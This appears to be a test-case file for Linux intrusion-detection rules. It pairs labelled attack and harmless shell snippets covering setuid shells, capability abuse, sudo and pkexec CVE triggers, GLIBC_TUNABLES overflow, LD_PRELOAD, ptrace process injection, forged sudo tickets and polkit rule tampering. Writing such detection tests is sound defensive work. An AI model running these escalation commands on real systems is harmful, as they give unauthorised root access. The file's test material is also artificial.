# Privilege escalation: how a user becomes root.

#: privilege_escalation attack: a planted setuid program
#: by alice
sudo install -o root -m 4755 /usr/bin/id /usr/local/bin/whoareyou
/usr/local/bin/whoareyou

#: privilege_escalation attack: python with cap_setuid
#: by alice
sudo setcap cap_setuid+ep /usr/bin/python3.11
python3 -c 'import os; os.setuid(0); os.system("id")'

#: privilege_escalation attack: perl with cap_setuid
#: by alice
sudo setcap cap_setuid+ep /usr/bin/perl
perl -e '$< = $> = 0; exec "id"'

#: privilege_escalation attack: a setuid program below a false sudo
#: by alice
sudo install -o root -m 4755 /usr/bin/id /usr/local/bin/whoareyou
cp /bin/bash ./sudo
./sudo -c 'whoareyou; true'

#: privilege_escalation harmless: sudo and what it begins
#: by alice
#: keep process.uid == 0 AND user.normal_uid != 0 AND event.action == "exec"
sudo id
sudo sh -c 'sh -c "id; true"; true'

#: privilege_escalation harmless: su with a password
#: by alice
#: keep process.uid == 0 AND user.normal_uid != 0 AND event.action == "exec"
echo root:correct-horse | sudo chpasswd
echo correct-horse | su -c 'id; true'

#: privilege_escalation harmless: setuid programs of the distribution
#: by alice
#: keep process.uid == 0 AND event.action == "exec"
passwd -S
sudo chmod u+s /usr/bin/pkexec
pkexec --version
mount > /dev/null
umount /nowhere
chfn -f Alice </dev/null

#: privilege_escalation harmless: a login over ssh
#: keep process.uid == 0 AND user.normal_uid == 1000 AND (event.action == "exec" OR event.action == "setuid")
ssh-keygen -q -t ed25519 -N '' -f /root/key
mkdir -p /home/alice/.ssh
cp /root/key.pub /home/alice/.ssh/authorized_keys
chown -R alice: /home/alice/.ssh
/usr/sbin/sshd -p 2222
until ss -ltn | grep -q :2222; do sleep 0.02; done
timeout 10 ssh -p 2222 -i /root/key -o StrictHostKeyChecking=no alice@127.0.0.1 id
timeout 10 ssh -tt -p 2222 -i /root/key -o StrictHostKeyChecking=no alice@127.0.0.1 <<< 'exit'
kill "$(cat /run/sshd.pid)"

#: privilege_escalation harmless: postgresql starts without a login
#: by container
#: keep process.uid == 0 AND user.normal_uid != 0
pg_ctlcluster 15 main start
pg_ctlcluster 15 main stop

# An attack on privilege_escalation_unexplained takes an exploit of the kernel: there is none here. Calls explain all that
# programs can do, those of 32 bits too.

#: privilege_escalation_unexplained harmless: sudo, and a call of 32 bits
#: by alice
#: keep event.action == "setuid" AND process.name == "python3"
cat > ids.py <<'END'
import ctypes, mmap, os, sys
os.setresuid(int(sys.argv[1]), int(sys.argv[1]), 0)
# seteuid(0) by int 0x80, whose number 208 (setresuid32) is another call in 64 bits.
code = bytes.fromhex("53 b8d0000000 bbffffffff 31c9 baffffffff cd80 5b c3")
place = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
place.write(code)
print(ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(place)))(), os.geteuid())
open("/root/as-root", "w").close()
END
sudo python3 ids.py 65534
sleep 1.2

#: root_shell_by_sudo attack: sudo
#: by alice
sudo -s

#: root_shell_by_sudo attack: su
#: by alice
echo root:correct-horse | sudo chpasswd
echo correct-horse | su -

#: root_shell_by_sudo harmless: one command
#: by alice
#: keep process.uid == 0 AND process.name in ["sh", "bash"]
sudo sh -c 'id; true'
echo 'id' > run.sh
sudo bash run.sh

#: false_sudo attack: a script before the real one in PATH
#: by alice
mkdir -p ~/.local/bin
printf '#!/bin/bash\nread -rsp "[sudo] password for $USER: " password\nexec /usr/bin/sudo "$@"\n' > ~/.local/bin/sudo
chmod +x ~/.local/bin/sudo
PATH=~/.local/bin:$PATH
sudo id

#: false_sudo attack: a shell that is called su
cp /bin/bash /tmp/su
/tmp/su -c 'id; true'

#: false_sudo harmless: the real ones, and one in a folder of the host
#: keep process.name in ["sudo", "su"] AND event.action == "exec"
printf '#!/bin/sh\nexec "$@"\n' > /usr/local/bin/sudo
chmod +x /usr/local/bin/sudo
/usr/local/bin/sudo id
/usr/bin/sudo id
su alice -c id

#: setuid_program_outside_system_folders attack: bash in a home
#: by alice
cp /bin/bash ~/.cache-helper
sudo chown root ~/.cache-helper
sudo chmod 4755 ~/.cache-helper
~/.cache-helper -p -c 'id; true'

#: setuid_program_outside_system_folders attack: python in /tmp
#: by alice
sudo install -o root -m 4755 /usr/bin/python3.11 /tmp/.py
/tmp/.py -c 'import os; print(os.geteuid())'

#: setuid_program_outside_system_folders harmless: one below /opt, and one that root runs
#: by alice
#: keep event.action == "exec" AND process.executable startswith ["/opt", "/home"]
sudo install -D -o root -m 4755 /usr/bin/id /opt/vendor/bin/helper
/opt/vendor/bin/helper
sudo install -o root -m 4755 /usr/bin/id /home/alice/mine
sudo /home/alice/mine

#: root_shell_by_setuid attack: bash
#: by alice
sudo chmod u+s /usr/bin/bash
bash -p -c 'id; true'

#: root_shell_by_setuid attack: dash
#: by alice
sudo chmod u+s /usr/bin/dash
dash -p -c 'id; true'

#: root_shell_by_setuid attack: a copy of another name
#: by alice
sudo install -o root -m 4755 /bin/bash /usr/local/bin/report
report -p < /dev/null

#: root_shell_by_setuid attack: find
#: by alice
sudo chmod u+s /usr/bin/find
find /etc/hostname -exec /bin/bash -p -c 'id; true' \;

#: root_shell_by_setuid harmless: by sudo, and a setuid program that takes the option
#: by alice
#: keep event.action == "exec" AND (process.args == "-p" OR process.executable == "/usr/bin/su")
sudo bash -p -c 'id; true'
su -p < /dev/null

#: setuid_bit_set attack: chmod
cp /usr/bin/id /usr/local/bin/identify
chmod u+s /usr/local/bin/identify

#: setuid_bit_set attack: install
install -m 4755 /usr/bin/id /usr/local/bin/identify

#: setuid_bit_set attack: python
cp /usr/bin/id /usr/local/bin/identify
python3 -c 'import os; os.chmod("/usr/local/bin/identify", 0o4755)'

#: setuid_bit_set harmless: a package is installed
#: keep event.action == "chmod" AND file.setuid == true
mkdir -p package/DEBIAN package/usr/bin
cp /usr/bin/id package/usr/bin/identify
printf 'Package: identify\nVersion: 1\nArchitecture: all\nMaintainer: a <a@example.com>\nDescription: a\n' > package/DEBIAN/control
printf '#!/bin/sh\nchmod u+s /usr/bin/identify\n' > package/DEBIAN/postinst
chmod 755 package/DEBIAN/postinst
dpkg-deb --build package identify.deb
dpkg -i identify.deb

#: setuid_bit_set harmless: a copy and a backup of the distribution's own
#: keep event.action in ["chmod", "create"] AND file.setuid == true
mkdir /srv/copy /srv/restored
cp -a /usr/bin/sudo /usr/bin/passwd /srv/copy
tar -C / -cf backup.tar usr/bin/su usr/bin/mount
tar -C /srv/restored -xpf backup.tar

#: setuid_bit_set_on_shell attack: bash
chmod u+s /usr/bin/bash

#: setuid_bit_set_on_shell attack: find
chmod 4755 /usr/bin/find

#: setuid_bit_set_on_shell attack: a copy in a temporary folder
cp /usr/bin/id /var/tmp/.id
perl -e 'chmod 04755, "/var/tmp/.id"'

#: setuid_bit_set_on_shell harmless: a program of the host
#: keep event.action == "chmod"
cp /usr/bin/id /usr/local/bin/identify
chmod u+s /usr/local/bin/identify
chmod 755 /usr/bin/bash

#: file_capabilities_set attack: setcap
setcap cap_setuid+ep /usr/bin/perl

#: file_capabilities_set attack: python
python3 -c 'import os, struct; os.setxattr("/usr/bin/perl", "security.capability", struct.pack("<5I", 0x02000001, 1 << 7, 0, 0, 0))'

#: file_capabilities_set harmless: a package is installed
#: keep event.action == "set_attribute"
mkdir -p package/DEBIAN package/usr/bin
cp /usr/bin/id package/usr/bin/identify
printf 'Package: identify\nVersion: 1\nArchitecture: all\nMaintainer: a <a@example.com>\nDescription: a\n' > package/DEBIAN/control
printf '#!/bin/sh\nsetcap cap_net_raw+ep /usr/bin/identify\n' > package/DEBIAN/postinst
chmod 755 package/DEBIAN/postinst
dpkg-deb --build package identify.deb
dpkg -i identify.deb

#: pkexec_without_arguments attack: python
#: by alice
sudo chmod u+s /usr/bin/pkexec
python3 -c '
import ctypes
libc = ctypes.CDLL(None)
none = (ctypes.c_char_p * 1)(None)
libc.execve(b"/usr/bin/pkexec", none, none)'

#: pkexec_without_arguments attack: perl
#: by alice
perl -e 'my $path = "/usr/bin/pkexec\0"; my $none = pack("Q", 0); syscall(59, $path, $none, $none)'

#: pkexec_without_arguments harmless: somebody who wants its help
#: by alice
#: keep process.name == "pkexec" AND event.action == "exec"
pkexec
pkexec --version

#: sudo_abused attack: user minus one
#: by alice
sudo -u#-1 id

#: sudo_abused attack: sudoedit with a backslash
#: by alice
sudoedit -s '\' AAAAAAAAAAAAAAAA

#: sudo_abused attack: a root folder of the user's own
#: by alice
mkdir woot
sudo -R woot id

#: sudo_abused harmless: other users and files
#: by alice
#: keep process.name in ["sudo", "sudoedit"] AND event.action == "exec"
sudo -u#1000 id
EDITOR=true sudoedit /etc/motd
sudo -s echo 'a\'

#: glibc_tunables_abused attack: env
#: by alice
env GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=AAAAAAAA Z=B /usr/bin/su --help

#: glibc_tunables_abused attack: python
#: by alice
python3 -c 'import os
os.execve("/usr/bin/su", ["su", "--help"], {"GLIBC_TUNABLES": "glibc.malloc.mxfast=glibc.malloc.mxfast=AAAAAAAA"})'

#: glibc_tunables_abused harmless: tunables as they are meant
#: by alice
#: keep process.env_vars startswith "GLIBC_TUNABLES" AND event.action == "exec"
GLIBC_TUNABLES=glibc.malloc.mxfast=64:glibc.malloc.arena_max=2 id

#: root_shell_from_program attack: find
#: by alice
sudo find /etc/hostname -exec /bin/sh \;

#: root_shell_from_program attack: vim
#: by alice
sudo vim.tiny -e -s -c ':!/bin/sh' -c ':q!'

#: root_shell_from_program attack: awk
#: by alice
sudo awk 'BEGIN { system("/bin/sh") }'

#: root_shell_from_program attack: tar
#: by alice
sudo tar -cf /dev/null /etc/hostname --checkpoint=1 --checkpoint-action=exec=/bin/bash

#: root_shell_from_program attack: python
#: by alice
sudo python3 -c 'import subprocess; subprocess.run(["/bin/bash", "-i"])'

#: root_shell_from_program harmless: commands and scripts by such programs
#: by alice
#: keep process.name in ["sh", "bash", "dash"] AND event.action == "exec" AND process.uid == 0
sudo find /etc/hostname -exec sh -c 'id; true' \;
sudo python3 -c 'import os; os.system("id; true")'
echo id > run.sh
sudo perl -e 'system("bash", "run.sh")'

#: user_namespace_made_by_user attack: unshare
#: by alice
unshare --user --map-root-user id

#: user_namespace_made_by_user attack: python
#: by alice
python3 -c 'import ctypes; print(ctypes.CDLL(None).unshare(0x10000000))'

#: user_namespace_made_by_user harmless: a browser, and root
#: by alice
#: keep event.action == "unshare"
# Debian's browsers are too large for this root file system: a copy of unshare stands where one would.
sudo install -D /usr/bin/unshare /opt/google/chrome/chrome
/opt/google/chrome/chrome --user --map-root-user true
sudo unshare --user true

#: library_preloaded_from_temporary_folder attack: LD_PRELOAD
#: by alice
cp /lib/x86_64-linux-gnu/libm.so.6 /tmp/.libhook.so
LD_PRELOAD=/tmp/.libhook.so id

#: library_preloaded_from_temporary_folder attack: LD_AUDIT
#: by alice
cp /lib/x86_64-linux-gnu/libm.so.6 /dev/shm/audit.so
LD_AUDIT=/dev/shm/audit.so id

#: library_preloaded_from_temporary_folder attack: sudo that keeps it
#: by alice
echo 'Defaults env_keep += LD_PRELOAD' | sudo tee /etc/sudoers.d/keep > /dev/null
cp /lib/x86_64-linux-gnu/libm.so.6 /var/tmp/hook.so
sudo LD_PRELOAD="libm.so.6 /var/tmp/hook.so" id

#: library_preloaded_from_temporary_folder harmless: a library of the system
#: by alice
#: keep process.env_vars startswith "LD_PRELOAD" AND event.action == "exec"
LD_PRELOAD=libm.so.6 id
LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libm.so.6 id

#: root_loads_libraries_from_temporary_folder attack: sh
mkdir /tmp/lib
LD_LIBRARY_PATH=/tmp/lib id

#: root_loads_libraries_from_temporary_folder attack: python
mkdir /dev/shm/lib
python3 -c 'import os; os.execve("/usr/bin/id", ["id"], {"LD_LIBRARY_PATH": "/opt/lib:/dev/shm/lib"})'

#: root_loads_libraries_from_temporary_folder harmless: an AppImage, and a folder below /opt
#: keep process.env_vars startswith "LD_LIBRARY_PATH" AND event.action == "exec"
LD_LIBRARY_PATH=/tmp/.mount_appAbC123/usr/lib:/usr/lib id
LD_LIBRARY_PATH=/opt/oracle/lib id

#: process_injection attack: ptrace by python
#: by alice
sleep 20 &
python3 - $! <<'END'
import ctypes, os, sys
pid = int(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
place = next(int(line.split("-")[0], 16) for line in open(f"/proc/{pid}/maps") if "r-xp" in line)
print(libc.ptrace(16, pid, None, None))
os.waitpid(pid, 0x40000000)
word = libc.ptrace(1, pid, place, None)
print(libc.ptrace(4, pid, place, word & (1 << 64) - 1))
libc.ptrace(17, pid, None, None)
END
kill $!

#: process_injection attack: process_vm_writev by python
#: by alice
sleep 20 &
python3 - $! <<'END'
import ctypes, sys
pid = int(sys.argv[1])
libc = ctypes.CDLL(None)
place = next(int(line.split("-")[0], 16) for line in open(f"/proc/{pid}/maps") if "[stack]" in line)
class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
text = ctypes.create_string_buffer(8)
ours, theirs = Piece(ctypes.addressof(text), 8), Piece(place, 8)
print(libc.process_vm_writev(pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0))
END
kill $!

#: process_injection attack: process_vm_writev by perl
sleep 20 &
perl -e '
my $pid = shift;
open my $maps, "<", "/proc/$pid/maps";
my ($place) = map { /^([0-9a-f]+)-.*\[stack\]/ ? hex $1 : () } <$maps>;
my $text = "\0" x 8;
my $ours = pack "QQ", unpack("Q", pack "p", $text), 8;
my $theirs = pack "QQ", $place, 8;
print syscall(311, int $pid, $ours, 1, $theirs, 1, 0), "\n";
' $!
kill $!

#: process_injection harmless: gdb writes, and python reads
#: keep event.action in ["ptrace_write", "memory_write", "memory_read", "ptrace_attach"]
sleep 20 &
gdb -q -batch -ex 'set var $rax = $rax' -ex 'set var *(char*)$sp = *(char*)$sp' -ex 'detach' -p $!
python3 - $! <<'END'
import ctypes, sys
pid = int(sys.argv[1])
libc = ctypes.CDLL(None)
place = next(int(line.split("-")[0], 16) for line in open(f"/proc/{pid}/maps") if "[stack]" in line)
class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
text = ctypes.create_string_buffer(8)
ours, theirs = Piece(ctypes.addressof(text), 8), Piece(place, 8)
print(libc.process_vm_readv(pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0))
END
kill $!

#: process_memory_opened_for_writing attack: python
#: by alice
sleep 20 &
python3 -c 'import sys; open(f"/proc/{sys.argv[1]}/mem", "r+b", buffering=0)' $!
kill $!

#: process_memory_opened_for_writing attack: dd
sleep 20 &
dd if=/dev/null of=/proc/$!/mem conv=notrunc count=0
kill $!

#: process_memory_opened_for_writing harmless: gdb
#: keep event.action == "write" AND file.path startswith "/proc/"
sleep 20 &
gdb -q -batch -ex 'set var *(char*)$sp = *(char*)$sp' -p $!
kill $!
echo 0 > /proc/self/oom_score_adj

#: sudo_ticket_forged attack: cp
mkdir -p -m 700 /run/sudo/ts
head -c 56 /dev/zero > /root/ticket
cp /root/ticket /run/sudo/ts/alice

#: sudo_ticket_forged attack: python
mkdir -p -m 700 /run/sudo/ts
python3 -c 'open("/run/sudo/ts/alice", "wb").write(bytes(56))'

#: sudo_ticket_forged harmless: sudo with a password
#: keep file.path startswith "/run/sudo/" AND event.action in ["create", "write", "chown"]
echo alice:correct-horse | chpasswd
echo 'alice ALL=(ALL) ALL' > /etc/sudoers.d/alice
echo correct-horse | setpriv --reuid=1000 --regid=1000 --init-groups sudo -S id

#: polkit_rule_changed attack: sh
mkdir -p /etc/polkit-1/rules.d
cat > /etc/polkit-1/rules.d/10-all.rules <<'END'
polkit.addRule(function(action, subject) { if (subject.user == "alice") return polkit.Result.YES; });
END

#: polkit_rule_changed attack: cp
mkdir -p /usr/share/polkit-1/actions
echo '<policyconfig/>' > /root/own.policy
cp /root/own.policy /usr/share/polkit-1/actions/org.example.policy

#: polkit_rule_changed harmless: a package is installed
#: keep event.action in ["create", "rename"] AND file.path startswith "/usr/share/polkit-1/"
mkdir -p package/DEBIAN package/usr/share/polkit-1/rules.d
echo '// none' > package/usr/share/polkit-1/rules.d/50-own.rules
printf 'Package: own\nVersion: 1\nArchitecture: all\nMaintainer: a <a@example.com>\nDescription: a\n' > package/DEBIAN/control
dpkg-deb --build package own.deb
dpkg -i own.deb
